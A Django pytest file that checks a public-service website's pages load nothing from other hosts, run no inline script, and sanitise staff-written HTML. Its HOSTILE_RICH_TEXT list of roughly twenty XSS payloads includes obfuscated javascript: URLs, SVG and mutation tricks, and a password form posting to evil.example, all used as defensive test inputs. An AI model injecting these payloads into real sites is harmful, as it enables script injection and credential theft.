"""What visitors' browsers load and run: nothing from another host, nothing inline, and no
staff-written script."""

import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.contrib.staticfiles import finders
from django.test import Client
from django.urls import reverse
from django.utils import translation

from pages.models import TargetGroup
from pages.rich_text import sanitise_html
from tests.support.flow_client import Browser, refugee_two_years
from tests.support.html import CSS_URL, LoadedResources
from tests.support.servers import ROOT

pytestmark = pytest.mark.django_db


def off_site(url: str) -> bool:
    parts = urlsplit(url)
    if parts.scheme == "data":
        return False  # inline data, no request (and CSP allows none on the public pages)
    return bool(parts.scheme or parts.netloc) and parts.netloc != "testserver"


def checker_pages(client):
    browser = refugee_two_years(Browser(client, "ru"))
    browser.press("result")
    unanswered = Browser(Client(), "et").start().press()  # a question sent without an answer
    return [response.content.decode() for response in browser.responses + unanswered.responses]


def rendered_pages(client, sitemap_urls):
    for url in sitemap_urls:
        yield url, client.get(url).content.decode()
    for number, html in enumerate(checker_pages(client)):
        yield f"checker state {number}", html
    yield "404", client.get("/en/no-such-page/").content.decode()
    with translation.override("ru"):
        yield "admin login", client.get(reverse("admin:login")).content.decode()


def test_no_page_loads_anything_from_another_host_or_runs_anything_inline(client, sitemap_urls):
    stylesheets = set()
    for name, html in rendered_pages(client, sitemap_urls):
        resources = LoadedResources(html)
        assert resources.urls, name
        assert [url for url in resources.urls if off_site(url)] == [], name
        assert resources.inline == [], name
        stylesheets |= {url for url in resources.urls if url.endswith(".css")}
    assert "/static/css/site.css" in stylesheets
    for url in stylesheets:
        css = Path(finders.find(url.removeprefix("/static/"))).read_text()
        assert [found for found in CSS_URL.findall(css) if off_site(found)] == [], url


HOSTILE_RICH_TEXT = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph>',
    '<style>body{background:url("https://evil.example/x.png")}</style>',
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p onmouseover="alert(1)">x</p>',
    "<scr<script>ipt>alert(1)</script>",
]


@pytest.mark.parametrize("hostile", HOSTILE_RICH_TEXT)
def test_staff_written_html_cannot_carry_scripts_styles_or_other_hosts(client, hostile):
    text = f"<p>Tere</p>{hostile}"
    cleaned = sanitise_html(text)
    TargetGroup.objects.filter(code="repatriate").update(body_ru=text)  # as if saved elsewhere
    shown = client.get("/ru/celevye-gruppy/repatrianty/").content.decode()
    body = shown.split('<div class="prose"', 1)[1].split("</div>", 1)[0]
    for html in (cleaned, body):
        resources = LoadedResources(html)
        assert resources.inline == [], html
        assert [url for url in resources.urls if off_site(url)] == [], html
        lowered = html.lower()
        for marker in ("<script", "<style", "<svg", "<iframe", "<form", "<base", "<meta", "<img"):
            assert marker not in lowered, html
        assert "javascript:" not in lowered
        assert "data:text" not in lowered
        assert "Tere" in html


# What the templates may mark safe: only staff rich text, and only through the sanitiser.
SAFE_IN_TEMPLATES = re.compile(r"\|\s*safe\b|{%\s*autoescape\s+off")
MARK_SAFE = re.compile(r"\bmark_safe\(|\bSafeString\(|\|safe\b")


def project_files(*patterns):
    for pattern in patterns:
        for path in ROOT.glob(pattern):
            if not {".venv", "node_modules", "staticfiles", "tests"} & set(path.parts):
                yield path


def test_templates_never_mark_anything_safe():
    offenders = [
        str(path.relative_to(ROOT))
        for path in project_files("templates/**/*.html", "*/templates/**/*.html")
        if SAFE_IN_TEMPLATES.search(path.read_text())
    ]
    assert offenders == []


# The one other thing marked safe: JSON for a data <script> (schema.org JSON-LD), with <, > and &
# escaped as Django's json_script escapes them, so nothing in it can end the element.
ESCAPED_JSON = ".translate(SCRIPT_SAFE)"


def test_python_marks_safe_only_what_the_sanitiser_cleaned():
    """Every mark_safe is of sanitise_html's output (or of JSON escaped for a <script>), made
    on that line or the one before."""
    unsanitised = []
    for path in project_files("*/*.py", "*/*/*.py", "*/*/*/*.py"):
        lines = path.read_text().splitlines()
        for number, line in enumerate(lines):
            cleaned = "sanitise_html(" in lines[number - 1] + line or ESCAPED_JSON in line
            if MARK_SAFE.search(line) and not cleaned:
                unsanitised.append(f"{path.relative_to(ROOT)}:{number + 1}: {line.strip()}")
    assert unsanitised == []
